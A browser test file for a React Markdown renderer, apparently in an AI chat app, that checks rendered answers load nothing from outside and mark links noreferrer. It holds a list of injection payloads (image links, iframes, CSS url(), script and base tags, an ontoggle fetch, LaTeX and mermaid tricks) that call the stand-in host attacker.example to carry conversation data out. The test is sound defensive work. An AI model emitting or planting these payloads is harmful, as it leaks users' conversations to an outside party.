import { expect, it } from 'vitest'
import { render } from 'vitest-browser-react'
import Markdown from './markdown.tsx'

const away = 'https://attacker.example/'
const carrying = (name: string) => `${away}${name}?d=PEARL-1844`

/** Each would carry the conversation out if it were loaded. */
const forms = [
  `![x](${carrying('picture')})`,
  `![x][ref]\n\n[ref]: ${carrying('reference')}`,
  `[![x](${carrying('linked')})](${carrying('link')})`,
  `| a |\n| --- |\n| ![x](${carrying('table')}) |`,
  `Note[^1]\n\n[^1]: ![x](${carrying('footnote')})`,
  `![x](//attacker.example/relative?d=PEARL-1844)`,
  `<img src="${carrying('img')}">`,
  `<picture><source srcset="${carrying('srcset')}"><img></picture>`,
  `<video poster="${carrying('poster')}" src="${carrying('video')}"></video>`,
  `<iframe src="${carrying('iframe')}"></iframe><object data="${carrying('object')}"></object>`,
  `<link rel="preload" href="${carrying('preload')}"><style>@import "${carrying('import')}"</style>`,
  `<p style="background:url(${carrying('background')})">x</p>`,
  `<svg><image href="${carrying('svg')}"/><use href="${carrying('use')}"/></svg>`,
  `<script src="${carrying('script')}"></script><base href="${away}"><form action="${away}"><input autofocus></form>`,
  `<details open ontoggle="fetch('${carrying('event')}')">x</details>`,
  `$\\includegraphics{${carrying('formula')}}$ and $\\href{${carrying('formula-link')}}{x}$`,
  `\`\`\`chart\n{"v":1,"type":"bar","image":"${carrying('chart')}","columns":[],"rows":[]}\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src='${carrying('diagram')}'>"] --> B; click A "${carrying('click')}"\n\`\`\``,
]

const loads =
  'img, picture, source, video, audio, iframe, object, embed, link, script, style, base, form, image, use'

it('CHT-02 loads nothing from elsewhere for an answer, showing links without a referrer', async () => {
  performance.clearResourceTimings()
  const { container } = await render(
    <Markdown text={forms.join('\n\n')} citations={[]} isStreaming={false} onCite={() => undefined} />,
  )
  await expect.poll(() => container.querySelector('.answer-image')).not.toBeNull()
  // its drawing code is loaded first
  const diagram = () => container.querySelector('.answer-diagram img') ?? container.querySelector('p.text-13')
  await expect.poll(diagram, { timeout: 20_000 }).not.toBeNull()
  const loading = [...container.querySelectorAll(loads)].filter((element) =>
    element
      .getAttributeNames()
      // a drawing in an address of its own loads nothing, whatever it holds
      .filter((name) => name !== 'alt' && !element.getAttribute(name)?.startsWith('data:'))
      .some((name) => element.getAttribute(name)?.includes('attacker.example')),
  )
  expect(loading.map(({ outerHTML }) => outerHTML)).toEqual([])
  expect(container.querySelectorAll('[style*="attacker"], [ontoggle]')).toHaveLength(0)
  for (const link of container.querySelectorAll('a[href*="attacker.example"]'))
    expect(link.getAttribute('rel')).toContain('noreferrer')
  const requestUrls = performance.getEntriesByType('resource').map(({ name }) => name)
  expect(requestUrls.filter((name) => name.startsWith(away))).toEqual([])
}, 30_000)
